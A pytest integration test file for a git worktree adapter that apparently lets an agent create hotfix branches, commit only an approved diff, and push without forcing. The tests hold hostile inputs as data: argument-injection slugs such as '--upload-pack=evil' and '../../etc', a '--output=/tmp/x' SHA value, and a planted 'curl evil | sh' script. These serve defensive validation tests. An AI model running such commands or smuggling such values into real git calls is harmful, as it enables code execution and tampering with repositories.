"""GitWorkspace against real git: a bare origin, the configured checkout, hotfix worktrees."""

from __future__ import annotations

import asyncio
import hashlib
import os
from pathlib import Path

import pytest

from adapters.git import (
    AlreadyExistsError,
    BaseBranchNotFoundError,
    DiffChangedError,
    GitWorkspace,
    GitWorktreeInfo,
    InvalidNameError,
    NotARepositoryError,
    NothingToCommitError,
    PushError,
    WorkspaceError,
)
from tests.integration.git.gitrepo import Repos, checkout_fingerprint, git, make_repos, push_from_elsewhere


async def _create(ws: GitWorkspace, repos: Repos, number: int = 7, slug: str = "checkout-500") -> GitWorktreeInfo:
    return await ws.create(repo_path=repos.repo_path, base_branch="main", number=number, slug=slug,
                           root=str(repos.root))


# --- create -------------------------------------------------------------------------------------------------

async def test_create_makes_a_worktree_on_a_new_hotfix_branch(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)

    assert info.path == str(repos.root.resolve() / "HF-7")
    assert info.branch == "hotfix/7-checkout-500"
    assert info.base_sha == git(repos.checkout, "rev-parse", "main")
    assert (info.fetched, info.base_behind, info.fetch_error) == (True, 0, None)
    assert git(info.path, "symbolic-ref", "--short", "HEAD") == "hotfix/7-checkout-500"
    assert (Path(info.path) / "app/checkout.py").read_text().startswith("def total")
    assert await workspace.list_worktrees(repo_path=repos.repo_path) == [info.path]


async def test_create_starts_from_the_fresher_remote_base_and_says_how_far_behind(
    workspace: GitWorkspace, repos: Repos
) -> None:
    push_from_elsewhere(repos, {"app/checkout.py": "def total(items):\n    return sum(items or [])\n"})
    remote_tip = push_from_elsewhere(repos, {"NEWS.md": "two\n"})
    local_before = git(repos.checkout, "rev-parse", "main")

    info = await _create(workspace, repos)

    assert info.base_sha == remote_tip
    assert info.base_behind == 2
    assert info.fetched is True
    assert (Path(info.path) / "NEWS.md").read_text() == "two\n"
    assert git(repos.checkout, "rev-parse", "main") == local_before  # only remote-tracking refs moved
    assert git(repos.checkout, "rev-parse", "refs/remotes/origin/main") == remote_tip


async def test_create_uses_the_local_base_when_it_is_ahead_of_the_remote(
    workspace: GitWorkspace, repos: Repos
) -> None:
    (repos.checkout / "LOCAL.md").write_text("unpushed\n")
    git(repos.checkout, "add", "LOCAL.md")
    git(repos.checkout, "commit", "-q", "-m", "local only")

    info = await _create(workspace, repos)

    assert info.base_sha == git(repos.checkout, "rev-parse", "main")
    assert info.base_behind == 0


async def test_create_offline_falls_back_to_the_local_base_and_says_so(workspace: GitWorkspace, repos: Repos) -> None:
    git(repos.checkout, "remote", "set-url", "origin", str(repos.origin.parent / "gone.git"))

    info = await _create(workspace, repos)

    assert info.fetched is False
    assert info.fetch_error is not None and "fetch from origin failed" in info.fetch_error
    assert "\n" not in info.fetch_error and str(repos.origin.parent) not in info.fetch_error
    assert info.base_sha == git(repos.checkout, "rev-parse", "main")


async def test_create_without_a_remote(workspace: GitWorkspace, tmp_path: Path) -> None:
    repos = make_repos(tmp_path, {"a.txt": "a\n"}, with_origin=False)

    info = await _create(workspace, repos)

    assert (info.fetched, info.base_behind, info.fetch_error) == (False, 0, None)


async def test_an_existing_branch_is_a_clear_error_and_nothing_is_created(
    workspace: GitWorkspace, repos: Repos
) -> None:
    git(repos.checkout, "branch", "hotfix/7-checkout-500")

    with pytest.raises(AlreadyExistsError, match="branch hotfix/7-checkout-500 already exists"):
        await _create(workspace, repos)

    assert not (repos.root / "HF-7").exists()
    assert await workspace.list_worktrees(repo_path=repos.repo_path) == []


async def test_an_existing_worktree_directory_is_a_clear_error_and_no_branch_is_made(
    workspace: GitWorkspace, repos: Repos
) -> None:
    (repos.root / "HF-7").mkdir(parents=True)

    with pytest.raises(AlreadyExistsError, match="worktree HF-7 already exists"):
        await _create(workspace, repos)

    assert git(repos.checkout, "branch", "--list", "hotfix/*") == ""


async def test_creating_the_same_hotfix_twice_fails_the_second_time(workspace: GitWorkspace, repos: Repos) -> None:
    await _create(workspace, repos)
    with pytest.raises(AlreadyExistsError):
        await _create(workspace, repos, slug="another-title")


@pytest.mark.parametrize("slug", ["../../etc", "a b", "-rf", "x..y", "x.lock", "a/b", "", "a\nb", "feat~1",
                                  "a:b", "@{u}", "x^", "a*", "--upload-pack=evil", "x" * 81, "trailing."])
async def test_hostile_slugs_are_refused_before_git_runs(workspace: GitWorkspace, repos: Repos, slug: str) -> None:
    with pytest.raises(InvalidNameError):
        await _create(workspace, repos, slug=slug)

    assert git(repos.checkout, "branch", "--list", "hotfix/*") == ""
    assert not repos.root.exists() or list(repos.root.iterdir()) == []


async def test_a_worktree_root_inside_the_checkout_is_refused(workspace: GitWorkspace, repos: Repos) -> None:
    before = checkout_fingerprint(repos.checkout)
    with pytest.raises(InvalidNameError, match="inside the repository's checkout"):
        await workspace.create(repo_path=repos.repo_path, base_branch="main", number=1, slug="x",
                               root=str(repos.checkout / ".hotfix-worktrees"))
    assert checkout_fingerprint(repos.checkout) == before


async def test_an_unknown_base_branch_and_a_non_repository_are_clear_errors(
    workspace: GitWorkspace, repos: Repos, tmp_path: Path
) -> None:
    with pytest.raises(BaseBranchNotFoundError, match="'release' was not found"):
        await workspace.create(repo_path=repos.repo_path, base_branch="release", number=1, slug="x",
                               root=str(repos.root))
    plain = tmp_path / "plain"
    plain.mkdir()
    with pytest.raises(NotARepositoryError):
        await workspace.create(repo_path=str(plain), base_branch="main", number=1, slug="x", root=str(repos.root))


# --- diff -----------------------------------------------------------------------------------------------------

async def test_diff_covers_new_deleted_renamed_modified_and_binary_files(
    workspace: GitWorkspace, repos: Repos
) -> None:
    info = await _create(workspace, repos)
    wt = Path(info.path)
    (wt / "app/checkout.py").write_text("def total(items):\n    return sum(items or [])\n")
    (wt / "app/new_module.py").write_text("NEW = True\n")  # untracked
    (wt / "README.md").unlink()
    (wt / "app/old_name.py").rename(wt / "app/new_name.py")
    (wt / "logo.bin").write_bytes(b"\x89PNG\x00\x09\x09")

    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    by_path = {f.path: f for f in diff.files}
    assert {p: f.status for p, f in by_path.items()} == {
        "app/checkout.py": "modified",
        "app/new_module.py": "added",
        "README.md": "deleted",
        "app/new_name.py": "renamed",
        "logo.bin": "modified",
    }
    assert by_path["app/new_name.py"].old_path == "app/old_name.py"
    assert by_path["logo.bin"].is_binary and not by_path["app/checkout.py"].is_binary
    assert (by_path["app/checkout.py"].added, by_path["app/checkout.py"].removed) == (1, 1)
    assert (by_path["README.md"].added, by_path["README.md"].removed) == (0, 1)
    assert diff.sha256 == hashlib.sha256(diff.text.encode("utf-8")).hexdigest()
    assert "+    return sum(items or [])" in diff.text


@pytest.mark.parametrize("name", ["with space.txt", "ünïcode.txt", 'quote"d.txt', "tab\there.txt", "x b/y.txt",
                                  "new\nline.txt", "-rf.txt"])
async def test_diff_reads_awkward_file_names(workspace: GitWorkspace, repos: Repos, name: str) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / name).parent.mkdir(parents=True, exist_ok=True)
    (Path(info.path) / name).write_text("x\n")
    (Path(info.path) / "README.md").write_text("changed\n")

    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    assert sorted((f.path, f.status, f.added) for f in diff.files) == sorted(
        [(name, "added", 1), ("README.md", "modified", 1)])


async def test_the_diff_sha_is_stable_and_changes_with_the_content(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "logo.bin").write_bytes(b"\x89PNG\x00\x07")

    first = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    second = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    (Path(info.path) / "logo.bin").write_bytes(b"\x89PNG\x00\x08")  # binary content only: same "differ" line
    third = await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    assert first.text == second.text and first.sha256 == second.sha256
    assert third.sha256 != first.sha256


async def test_concurrent_diffs_of_one_worktree_all_succeed(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("# concurrently\n")

    diffs = await asyncio.gather(*(workspace.diff(worktree=info.path, base_sha=info.base_sha) for _ in range(8)))

    assert len({d.sha256 for d in diffs}) == 1 and not diffs[0].is_empty


async def test_diff_is_not_blocked_by_the_agents_own_index_lock(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("# locked\n")
    lock = Path(git(info.path, "rev-parse", "--path-format=absolute", "--git-dir")) / "index.lock"
    lock.write_text("")  # as if the agent's own `git add` were running

    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    assert [f.path for f in diff.files] == ["README.md"]
    assert lock.exists()


async def test_diff_leaves_the_agents_view_of_the_worktree_alone(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("# edited\n")
    (Path(info.path) / "new.py").write_text("x = 1\n")
    (Path(info.path) / "app/checkout.py").write_text("staged\n")
    git(info.path, "add", "app/checkout.py")
    before = git(info.path, "status", "--porcelain")

    await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    assert git(info.path, "status", "--porcelain") == before  # still " M", "??" and "M " as the agent left them
    assert git(info.path, "diff", "--name-only") == "README.md"
    gitdir = Path(git(info.path, "rev-parse", "--path-format=absolute", "--git-dir"))
    assert sorted(p.name for p in gitdir.iterdir() if p.name.startswith("index")) == ["index"]


async def test_an_untouched_worktree_has_an_empty_diff(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    assert diff.is_empty and diff.text == ""


async def test_diff_includes_commits_the_agent_made_itself(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("# shop!\n")
    git(info.path, "commit", "-q", "-am", "agent commit")

    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    assert [f.path for f in diff.files] == ["README.md"]


async def test_diff_refuses_the_configured_checkout(workspace: GitWorkspace, repos: Repos) -> None:
    (repos.checkout / "untracked.txt").write_text("mine\n")
    before = checkout_fingerprint(repos.checkout)

    with pytest.raises(NotARepositoryError, match="not a hotfix worktree"):
        await workspace.diff(worktree=repos.repo_path, base_sha=git(repos.checkout, "rev-parse", "HEAD"))

    assert checkout_fingerprint(repos.checkout) == before


async def test_diff_refuses_a_base_sha_that_is_not_a_sha(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    with pytest.raises(InvalidNameError):
        await workspace.diff(worktree=info.path, base_sha="--output=/tmp/x")


# --- commit ---------------------------------------------------------------------------------------------------

async def test_commit_records_exactly_the_approved_diff(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    wt = Path(info.path)
    (wt / "app/checkout.py").write_text("def total(items):\n    return sum(items or [])\n")
    (wt / "app/new_module.py").write_text("NEW = True\n")
    (wt / "README.md").unlink()
    approved = await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    sha = await workspace.commit(worktree=info.path, expected_sha256=approved.sha256, base_sha=info.base_sha,
                                 message="HF-7: fix the checkout 500\n\nRequested-by: slack:U1\n")

    assert git(info.path, "rev-parse", "HEAD") == sha
    assert git(info.path, "rev-parse", "refs/heads/hotfix/7-checkout-500") == sha
    assert git(info.path, "log", "-1", "--format=%an <%ae>|%cn <%ce>|%s", sha) == (
        "hotfix-bot <hotfix-bot@localhost>|hotfix-bot <hotfix-bot@localhost>|HF-7: fix the checkout 500")
    assert git(info.path, "status", "--porcelain") == ""  # the worktree's index matches the commit
    assert sorted(git(info.path, "diff", "--name-status", info.base_sha, sha).splitlines()) == [
        "A\tapp/new_module.py", "D\tREADME.md", "M\tapp/checkout.py"]
    after = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    assert after.sha256 == approved.sha256  # the committed tree is exactly what was hashed


async def test_commit_refuses_when_the_diff_changed_after_approval(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("# shop, fixed\n")
    approved = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    (Path(info.path) / "sneaky.sh").write_text("curl evil | sh\n")

    with pytest.raises(DiffChangedError) as caught:
        await workspace.commit(worktree=info.path, expected_sha256=approved.sha256, base_sha=info.base_sha,
                               message="HF-7")

    assert caught.value.expected_sha256 == approved.sha256
    assert "\n" not in str(caught.value)
    assert git(info.path, "rev-parse", "HEAD") == info.base_sha  # nothing committed


async def test_commit_uses_the_repository_identity_when_it_sets_one(workspace: GitWorkspace, repos: Repos) -> None:
    git(repos.checkout, "config", "user.name", "Shop Bot")
    git(repos.checkout, "config", "user.email", "bot@shop.example")
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("x\n")
    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    sha = await workspace.commit(worktree=info.path, expected_sha256=diff.sha256, base_sha=info.base_sha, message="m")

    assert git(info.path, "log", "-1", "--format=%an <%ae>", sha) == "Shop Bot <bot@shop.example>"


async def test_commit_refuses_a_worktree_moved_off_its_branch(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("x\n")
    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    git(info.path, "checkout", "-q", "--detach")

    with pytest.raises(WorkspaceError, match="no longer on its hotfix branch"):
        await workspace.commit(worktree=info.path, expected_sha256=diff.sha256, base_sha=info.base_sha, message="m")

    assert git(repos.checkout, "rev-parse", info.branch) == info.base_sha


async def test_commit_keeps_the_agents_own_commits_in_history(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("step one\n")
    git(info.path, "commit", "-q", "-am", "agent: step one")
    agent_commit = git(info.path, "rev-parse", "HEAD")
    (Path(info.path) / "README.md").write_text("step two\n")
    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)

    sha = await workspace.commit(worktree=info.path, expected_sha256=diff.sha256, base_sha=info.base_sha, message="m")

    assert git(info.path, "rev-parse", f"{sha}^") == agent_commit
    assert git(info.path, "show", f"{sha}:README.md") == "step two"


async def test_commit_of_an_empty_diff_is_refused(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    empty = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    with pytest.raises(NothingToCommitError):
        await workspace.commit(worktree=info.path, expected_sha256=empty.sha256, base_sha=info.base_sha, message="m")


# --- push -----------------------------------------------------------------------------------------------------

async def _committed(workspace: GitWorkspace, repos: Repos) -> tuple[GitWorktreeInfo, str]:
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("# shop, fixed\n")
    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    sha = await workspace.commit(worktree=info.path, expected_sha256=diff.sha256, base_sha=info.base_sha,
                                 message="HF-7")
    return info, sha


async def test_push_publishes_the_branch_to_origin(workspace: GitWorkspace, repos: Repos) -> None:
    info, sha = await _committed(workspace, repos)

    await workspace.push(worktree=info.path, branch=info.branch)

    assert git(repos.origin, "rev-parse", f"refs/heads/{info.branch}") == sha
    assert git(repos.origin, "tag", "--list") == ""


async def test_a_non_fast_forward_push_is_rejected_never_forced(workspace: GitWorkspace, repos: Repos) -> None:
    info, _ = await _committed(workspace, repos)
    theirs = push_from_elsewhere(repos, {"THEIRS.md": "x\n"}, branch=info.branch)

    with pytest.raises(PushError) as caught:
        await workspace.push(worktree=info.path, branch=info.branch)

    assert git(repos.origin, "rev-parse", f"refs/heads/{info.branch}") == theirs
    message = str(caught.value)
    assert "rejected" in message and "\n" not in message and str(repos.origin) not in message


async def test_push_errors_hide_credentials_and_paths(workspace: GitWorkspace, repos: Repos) -> None:
    info, _ = await _committed(workspace, repos)
    git(repos.checkout, "remote", "set-url", "origin", "http://bot:s3cr3t-token@127.0.0.1:9/shop.git")

    with pytest.raises(PushError) as caught:
        await workspace.push(worktree=info.path, branch=info.branch)

    message = str(caught.value)
    assert "s3cr3t-token" not in message and "\n" not in message and message.startswith("push to origin failed")


async def test_push_without_a_remote_is_a_push_error(workspace: GitWorkspace, tmp_path: Path) -> None:
    repos = make_repos(tmp_path, {"a.txt": "a\n"}, with_origin=False)
    info = await _create(workspace, repos)
    with pytest.raises(PushError, match="no remote"):
        await workspace.push(worktree=info.path, branch=info.branch)


# --- remove, list, orphans -------------------------------------------------------------------------------------

async def test_remove_deletes_worktree_and_branch_and_is_idempotent(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    (Path(info.path) / "dirty.txt").write_text("uncommitted\n")

    await workspace.remove(repo_path=repos.repo_path, worktree=info.path, branch=info.branch)
    await workspace.remove(repo_path=repos.repo_path, worktree=info.path, branch=info.branch)

    assert not Path(info.path).exists()
    assert git(repos.checkout, "branch", "--list", info.branch) == ""
    assert await workspace.list_worktrees(repo_path=repos.repo_path) == []
    again = await _create(workspace, repos)  # the same hotfix can start over
    assert again.path == info.path


async def test_remove_cleans_a_worktree_git_forgot(workspace: GitWorkspace, repos: Repos) -> None:
    info = await _create(workspace, repos)
    git(repos.checkout, "worktree", "prune")
    admin = Path(git(repos.checkout, "rev-parse", "--path-format=absolute", "--git-common-dir")) / "worktrees"
    for entry in admin.iterdir():
        (entry / "gitdir").write_text("/nowhere/.git\n")  # git now thinks the worktree is elsewhere
    git(repos.checkout, "worktree", "prune")

    await workspace.remove(repo_path=repos.repo_path, worktree=info.path, branch=info.branch)

    assert not Path(info.path).exists()


async def test_remove_leaves_a_directory_that_is_not_a_worktree(workspace: GitWorkspace, repos: Repos) -> None:
    stray = repos.root / "HF-3"
    stray.mkdir(parents=True)
    (stray / "precious.txt").write_text("keep me\n")

    with pytest.raises(WorkspaceError, match="left in place"):
        await workspace.remove(repo_path=repos.repo_path, worktree=str(stray), branch="hotfix/3-x")

    assert (stray / "precious.txt").exists()


async def test_find_orphans_reports_worktrees_no_live_hotfix_owns(workspace: GitWorkspace, repos: Repos) -> None:
    live = await _create(workspace, repos, number=1, slug="live")
    orphan = await _create(workspace, repos, number=2, slug="orphan")
    (repos.root / "HF-9").mkdir()  # a leftover directory git does not know
    (repos.root / "notes").mkdir()  # not a hotfix directory

    by_path = await workspace.find_orphans(repo_path=repos.repo_path, root=str(repos.root), known={live.path})
    by_id = await workspace.find_orphans(repo_path=repos.repo_path, root=str(repos.root), known={"HF-1", "HF-9"})

    assert by_path == [orphan.path, str(repos.root.resolve() / "HF-9")]
    assert by_id == [orphan.path]


# --- base files ------------------------------------------------------------------------------------------------

async def test_read_base_file_reads_the_freshest_known_base(workspace: GitWorkspace, repos: Repos) -> None:
    assert await workspace.read_base_file(repo_path=repos.repo_path, base_branch="main", path="README.md") == (
        "# shop\n")
    assert await workspace.read_base_file(repo_path=repos.repo_path, base_branch="main", path=".hotfix.toml") is None
    assert await workspace.read_base_file(repo_path=repos.repo_path, base_branch="main", path="app") is None
    with pytest.raises(InvalidNameError):
        await workspace.read_base_file(repo_path=repos.repo_path, base_branch="main", path="../secrets")


async def test_list_base_files_fetches_and_sees_files_that_arrived_on_the_remote(
    workspace: GitWorkspace, repos: Repos
) -> None:
    push_from_elsewhere(repos, {"tasks/hotfix/HOTFIX-cart.md": "# Cart empty\n", "tasks/hotfix/notes.txt": "n\n",
                                "tasks/hotfix/deeper/HOTFIX-no.md": "# no\n"})
    before = checkout_fingerprint(repos.checkout)

    found = await workspace.list_base_files(repo_path=repos.repo_path, base_branch="main", folder="tasks/hotfix",
                                            pattern="HOTFIX-*.md")

    assert found == {"tasks/hotfix/HOTFIX-login.md": "# Login fails\n\nUsers cannot log in.\n",
                     "tasks/hotfix/HOTFIX-cart.md": "# Cart empty\n"}
    assert checkout_fingerprint(repos.checkout) == before


# --- the configured checkout is never touched -------------------------------------------------------------------

async def test_the_configured_checkout_is_untouched_by_a_whole_hotfix(workspace: GitWorkspace, repos: Repos) -> None:
    git(repos.checkout, "checkout", "-q", "-b", "someone-elses-work")
    (repos.checkout / "README.md").write_text("# half-edited by a human\n")  # a dirty tracked file
    (repos.checkout / "scratch.txt").write_text("untracked\n")
    git(repos.checkout, "add", "scratch.txt")  # something staged in the checkout's index
    push_from_elsewhere(repos, {"NEWS.md": "n\n"})
    before = checkout_fingerprint(repos.checkout)

    info = await _create(workspace, repos)
    (Path(info.path) / "app/checkout.py").write_text("fixed\n")
    diff = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    await workspace.commit(worktree=info.path, expected_sha256=diff.sha256, base_sha=info.base_sha, message="HF-7")
    await workspace.push(worktree=info.path, branch=info.branch)
    await workspace.read_base_file(repo_path=repos.repo_path, base_branch="main", path="README.md")
    await workspace.list_base_files(repo_path=repos.repo_path, base_branch="main", folder="tasks/hotfix",
                                    pattern="*.md")
    await workspace.find_orphans(repo_path=repos.repo_path, root=str(repos.root), known=set())
    await workspace.remove(repo_path=repos.repo_path, worktree=info.path, branch=info.branch)

    assert checkout_fingerprint(repos.checkout) == before
    assert os.listdir(repos.root) == []


async def test_append_file_refuses_to_follow_a_symlink_out_of_the_worktree(
    workspace: GitWorkspace, repos: Repos, tmp_path: Path
) -> None:
    info = await _create(workspace, repos)
    outside = tmp_path / "outside.md"
    outside.write_text("untouched\n")
    (Path(info.path) / "notes.md").symlink_to(outside)

    with pytest.raises(InvalidNameError):
        await workspace.append_file(worktree=info.path, path="notes.md", text="x")

    assert outside.read_text() == "untouched\n"


def test_ssh_never_prompts_unless_the_user_chose_an_ssh_command(
    repos: Repos, monkeypatch: pytest.MonkeyPatch
) -> None:
    from adapters.git.cli import GitCli

    monkeypatch.delenv("GIT_SSH_COMMAND", raising=False)
    monkeypatch.delenv("GIT_SSH", raising=False)
    cli = GitCli(repos.repo_path)
    assert cli.network_env() == {"GIT_SSH_COMMAND": "ssh -o BatchMode=yes"}
    git(repos.checkout, "config", "core.sshCommand", "ssh -i /keys/deploy")
    assert cli.network_env() == {}
    git(repos.checkout, "config", "--unset", "core.sshCommand")
    monkeypatch.setenv("GIT_SSH_COMMAND", "ssh -F /etc/bot-ssh")
    assert cli.network_env() == {}


async def test_landing_the_same_approved_diff_twice_commits_once(workspace: GitWorkspace, repos: Repos) -> None:
    """A bot killed after the branch moved lands the approval again at start: the commit is not repeated."""
    info = await _create(workspace, repos)
    (Path(info.path) / "README.md").write_text("# shop, fixed\n")
    approved = await workspace.diff(worktree=info.path, base_sha=info.base_sha)
    message = "HF-7: fix\n\nApproved-by: slack:U2\n"
    first = await workspace.commit(worktree=info.path, expected_sha256=approved.sha256, base_sha=info.base_sha,
                                   message=message)
    again = await workspace.commit(worktree=info.path, expected_sha256=approved.sha256, base_sha=info.base_sha,
                                   message=message)
    assert again == first
    assert git(info.path, "rev-list", "--count", f"{info.base_sha}..HEAD") == "1"
